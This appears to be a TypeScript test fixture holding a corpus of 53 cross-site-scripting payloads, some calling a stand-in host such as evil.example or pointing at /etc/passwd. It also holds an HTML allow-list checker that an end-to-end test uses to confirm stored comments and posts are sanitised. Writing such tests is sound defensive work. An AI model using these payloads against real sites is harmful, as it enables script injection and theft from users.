/** The XSS corpus (53 payloads) and the checker every stored-html test uses (comments, posts, sections); tests/e2e/security/xss.spec.ts plants it in Chromium. */
/** Script, event-handler and dangerous-URL payloads in raw HTML and in every markdown construct that makes a tag. */
export const xssPayloads = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<body onload=alert(1)>',
  '<a href="javascript:alert(1)">click</a>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<!--><script>alert(1)</script>-->',
  '<<script>script>alert(1)<</script>/script>',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](javascript&#58;alert(1))',
  '[click](&#106;avascript:alert(1))',
  '[click](vbscript:msgbox(1))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[click](file:///etc/passwd)',
  '[click](//evil.example/phish)',
  '[click]( javascript:alert(1))',
  '[click](<javascript:alert(1)>)',
  '[click](https://ok.example "title\\" onmouseover=\\"alert(1))',
  '[x]: javascript:alert(1)\n\n[click][x]',
  '![x](javascript:alert(1))',
  '![x](https://evil.example/pixel.png" onerror="alert(1))',
  '<javascript:alert(1)>',
  'javascript:alert(1)',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '**<img src=x onerror=alert(1)>**',
  '> <iframe srcdoc="<script>alert(1)</script>">',
  '- <a href=# onclick=alert(1)>item</a>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<video><source onerror=alert(1)></video>',
  '<a href="&#x6A;avascript:alert(1)">x</a>',
  '[x](https://ok.example)<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg/onload=alert(1)>",
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '<img src="x" onerror="&#97;lert(1)">',
  '<marquee onstart=alert(1)>x</marquee>',
];

const allowedTags = new Set([
  'p',
  'br',
  'a',
  'strong',
  'em',
  's',
  'code',
  'pre',
  'blockquote',
  'ul',
  'ol',
  'li',
  'h1',
  'h2',
  'h3',
  'h4',
  'h5',
  'h6',
  'hr',
  'table',
  'thead',
  'tbody',
  'tr',
  'th',
  'td',
]);
const safeHref = /^(https?:\/\/|mailto:|#|\/(?![/\\]))/i;

const decode = (value: string): string =>
  value.replace(/&(#x[0-9a-f]+|#\d+|amp|lt|gt|quot);/gi, (_whole, entity: string) => {
    const lower = entity.toLowerCase();
    if (lower === 'amp') return '&';
    if (lower === 'lt') return '<';
    if (lower === 'gt') return '>';
    if (lower === 'quot') return '"';
    return String.fromCodePoint(lower.startsWith('#x') ? parseInt(lower.slice(2), 16) : parseInt(lower.slice(1), 10));
  });

/** The blog's extra tags: pictures from safe addresses and the video hosts' players (issue 17). */
const blogTags = new Set(['img', 'iframe', 'div']);
const embedSrc =
  /^https:\/\/(www\.youtube-nocookie\.com\/embed\/|player\.vimeo\.com\/video\/|drive\.google\.com\/file\/d\/)[\w-]+(\/preview)?$/;
const blogAttributeProblem = (tag: string, attribute: string, value: string): string | null => {
  if (tag === 'img' && attribute === 'src') return safeHref.test(value.trim()) ? null : `img src ${value}`;
  if (tag === 'img' && ['alt', 'loading'].includes(attribute)) return null;
  if (tag === 'iframe' && attribute === 'src') return embedSrc.test(value) ? null : `iframe src ${value}`;
  if (tag === 'iframe' && ['title', 'loading', 'allow', 'allowfullscreen'].includes(attribute)) return null;
  if (tag === 'div' && attribute === 'class') return value === 'video-embed' ? null : `div class ${value}`;
  return `attribute ${attribute} on <${tag}>`;
};

/** Every tag the html holds is one markdown makes (with `blog`, also the blog's pictures and players), and no attribute can run code or leave for a scheme that does. */
export const liveHtmlProblems = (html: string, { blog = false }: { blog?: boolean } = {}): string[] => {
  const problems: string[] = [];
  for (const [, name = '', attributes = ''] of html.matchAll(/<\/?([a-zA-Z][a-zA-Z0-9]*)([^>]*)>/g)) {
    const tag = name.toLowerCase();
    if (blog && blogTags.has(tag)) {
      const rest = attributes.replace(/\s([a-z]+)="([^"]*)"/g, (_whole, attribute: string, value: string) => {
        const problem = blogAttributeProblem(tag, attribute, decode(value));
        if (problem) problems.push(problem);
        return '';
      });
      if (rest.replace(/\/$/, '').trim() !== '') problems.push(`unparsed attributes ${rest}`);
      continue;
    }
    if (!allowedTags.has(tag)) problems.push(`tag <${name}>`);
    const rest = attributes.replace(/\s([a-z]+)="([^"]*)"/g, (_whole, attribute: string, value: string) => {
      const decoded = decode(value);
      if (attribute === 'href' && !safeHref.test(decoded.trim())) problems.push(`href ${decoded}`);
      else if (attribute === 'class' && !/^language-[\w-]+$/.test(decoded)) problems.push(`class ${decoded}`);
      else if (attribute === 'style' && !/^text-align:(left|right|center)$/.test(decoded))
        problems.push(`style ${decoded}`);
      else if (!['href', 'target', 'rel', 'class', 'style', 'title', 'start'].includes(attribute))
        problems.push(`attribute ${attribute}`);
      return '';
    });
    if (rest.replace(/\/$/, '').trim() !== '') problems.push(`unparsed attributes ${rest}`);
  }
  return problems;
};
